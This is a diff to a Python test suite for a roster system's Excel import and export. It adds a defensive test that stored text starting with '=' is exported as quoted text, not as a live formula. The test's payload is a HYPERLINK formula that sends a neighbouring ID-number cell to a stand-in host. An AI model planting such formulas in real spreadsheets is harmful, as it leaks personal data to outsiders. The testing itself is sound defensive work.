@@ -114,12 +114,12 @@ async def test_only_the_staffing_office_imports(session, who):
 
 
 async def test_exports_open_in_excel_and_mask_what_the_caller_may_not_see(session):
-    content = await excel.export_roster(session, LEADER, None)
+    content, _ = await excel.export_roster(session, LEADER, None)
     ws = load_workbook(io.BytesIO(content)).active
     rows = list(ws.iter_rows(values_only=True))
     assert rows[0][0] == "姓名" and len(rows) == 567
     assert all("*" in r[3] for r in rows[1:])  # leadership sees masked ID numbers
-    mine = list(load_workbook(io.BytesIO(await excel.export_roster(session, dept_admin("sfj"), None))).active
+    mine = list(load_workbook(io.BytesIO((await excel.export_roster(session, dept_admin("sfj"), None))[0])).active
                 .iter_rows(values_only=True))
     sfj = await session.get(Department, (await session.scalars(select(Department.id).where(Department.code == "sfj"))).first())
     assert len(mine) == 1 + 92 and all("*" not in r[3] for r in mine[1:]) and all(r[7] == sfj.name for r in mine[1:])
@@ -127,3 +127,21 @@ async def test_exports_open_in_excel_and_mask_what_the_caller_may_not_see(sessio
     assert len(quota) == 73 and sum(r[3] for r in quota[1:]) == 597
     gaps = list(load_workbook(io.BytesIO(await excel.export_vacancies(session, LEADER))).active.iter_rows(values_only=True))
     assert len(gaps) == 1 + 6 + 12
+
+
+async def test_formula_text_is_imported_and_exported_as_text_never_as_a_formula(session):
+    """Free text starting with = + - @ left as a live formula beside full ID numbers (formula injection)."""
+    agency, town = await _room(session)
+    payload = '=HYPERLINK("http://e.example/"&D2)'
+    # openpyxl writes a string starting with "=" as a formula: this is what an attacker would upload.
+    created, errors = await excel.import_roster(session, STAFFING, _xlsx([
+        _row("公式测试", "33068119900506131", town, 业务条线=payload)]))
+    assert errors == [] and created[0].professional_line == payload  # kept as the text typed
+    zhzfj = dept_admin("zhzfj")
+    content, _ = await excel.export_roster(session, zhzfj, None)
+    ws = load_workbook(io.BytesIO(content)).active
+    cells = [row[5] for row in ws.iter_rows(min_row=2) if row[0].value == "公式测试"]
+    assert len(cells) == 1
+    assert cells[0].value == payload and cells[0].data_type == "s" and cells[0].quotePrefix
+    # Nothing in the whole file is a formula.
+    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
